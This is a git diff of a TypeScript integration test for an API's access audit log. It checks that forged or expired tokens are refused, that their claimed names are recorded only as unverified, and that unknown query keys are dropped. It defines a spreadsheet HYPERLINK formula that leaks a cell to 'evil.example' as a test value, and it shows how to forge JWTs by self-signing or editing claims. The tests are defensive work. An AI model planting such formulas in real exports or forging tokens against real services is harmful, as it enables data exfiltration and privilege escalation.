@@ -1,5 +1,7 @@
+import { createSign, generateKeyPairSync } from 'node:crypto';
 import { and, desc, eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import type { AccessLogEntry } from '../../contract/accessLog';
 import type { CaseDetails } from '../../contract/cases';
 import { API_PATHS } from '../../contract/paths';
 import type { TimeLog } from '../../contract/timeLogs';
@@ -10,6 +12,8 @@ import { createTestUser, expiredIdToken, fetchIdToken } from './support/identity
 import { describeEachDatabase, startTestServer, type TestServer } from './support/testServer';
 
 const identity = inject('identity');
+
+const FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';
 
 /**
  * The complete audit (DESIGN §6): every 401 and 403 with the token's subject where there is one, every
@@ -77,26 +81,62 @@ describeEachDatabase('Access audit', (kind) => {
       });
     });
 
-    it('audits a forged token under the subject it claims, marked unverified', async () => {
+    it("keeps a forged token's claimed name and groups apart as unverified, never as the actor", async () => {
+      // Signed with a key of the caller's own: anyone can write any name, even a spreadsheet formula.
+      const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
+      const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
+      const claims = {
+        'cognito:username': FORMULA,
+        'cognito:groups': ['admin'],
+        exp: Date.now() / 1000 + 600,
+      };
+      const unsigned = `${encode({ alg: 'RS256', kid: 'CognitoLocal' })}.${encode(claims)}`;
+      const forged = `${unsigned}.${createSign('RSA-SHA256').update(unsigned).sign(privateKey).toString('base64url')}`;
+      expect((await callApi(server, 'GET', API_PATHS.users, { token: forged })).status).toBe(401);
+      const stored = await lastEntry('GET /api/users');
+      expect(stored).toMatchObject({
+        actor: 'unverified token',
+        outcome: 'denied',
+        details: { status: 401, token: 'refused', unverifiedUser: FORMULA, tokenExpired: false },
+      });
+      expect(stored.details).not.toHaveProperty('roles');
+      const log = await call('GET', `${API_PATHS.accessLog}?perPage=100`, 'admin');
+      const shown = (log.body.data as AccessLogEntry[]).find((entry) => entry.id === stored.id);
+      expect(shown?.actor).toBe(`unverified: ${FORMULA}`);
+    });
+
+    it("never lists a forged token's refusals under the user it names", async () => {
       const [header, payload, signature] = tokens.tech1.split('.');
       const claims = JSON.parse(Buffer.from(payload, 'base64url').toString());
       claims['cognito:groups'] = ['admin'];
       const forged = `${header}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.${signature}`;
-      const reply = await callApi(server, 'GET', API_PATHS.users, { token: forged });
-      expect(reply.status).toBe(401);
+      expect((await callApi(server, 'GET', API_PATHS.users, { token: forged })).status).toBe(401);
       expect(await lastEntry('GET /api/users')).toMatchObject({
-        actor: 'tech1',
-        outcome: 'denied',
-        details: { status: 401, token: 'refused', subjectVerified: false, tokenExpired: false },
+        actor: 'unverified token',
+        details: { unverifiedUser: 'tech1', tokenExpired: false },
       });
+      const log = await call('GET', `${API_PATHS.accessLog}?actor=tech1&outcome=denied&perPage=100`, 'admin');
+      const entries = log.body.data as AccessLogEntry[];
+      expect(entries.filter((entry) => entry.details.token === 'refused')).toEqual([]);
     });
 
-    it('audits an expired token under its subject, marked expired', async () => {
+    it('stores none of the query keys a read does not know', async () => {
+      const read = await call(
+        'GET',
+        `${API_PATHS.caseDetails(caseId)}?${encodeURIComponent(FORMULA)}=1`,
+        'admin',
+      );
+      expect(read.status).toBe(200);
+      const stored = await lastEntry('GET /api/continuous-monitoring/cases/details/:id');
+      expect(stored.details).toEqual({ query: {} });
+    });
+
+    it('audits an expired token with the name it claims kept as unverified, marked expired', async () => {
       const token = expiredIdToken(identity, { username: 'reader1', groups: ['reader'] });
       expect((await callApi(server, 'GET', API_PATHS.chrome, { token })).status).toBe(401);
       expect(await lastEntry('GET /api/chrome')).toMatchObject({
-        actor: 'reader1',
-        details: { status: 401, reason: 'Invalid tokens.', tokenExpired: true, subjectVerified: false },
+        actor: 'unverified token',
+        details: { status: 401, reason: 'Invalid tokens.', tokenExpired: true, unverifiedUser: 'reader1' },
       });
     });
 
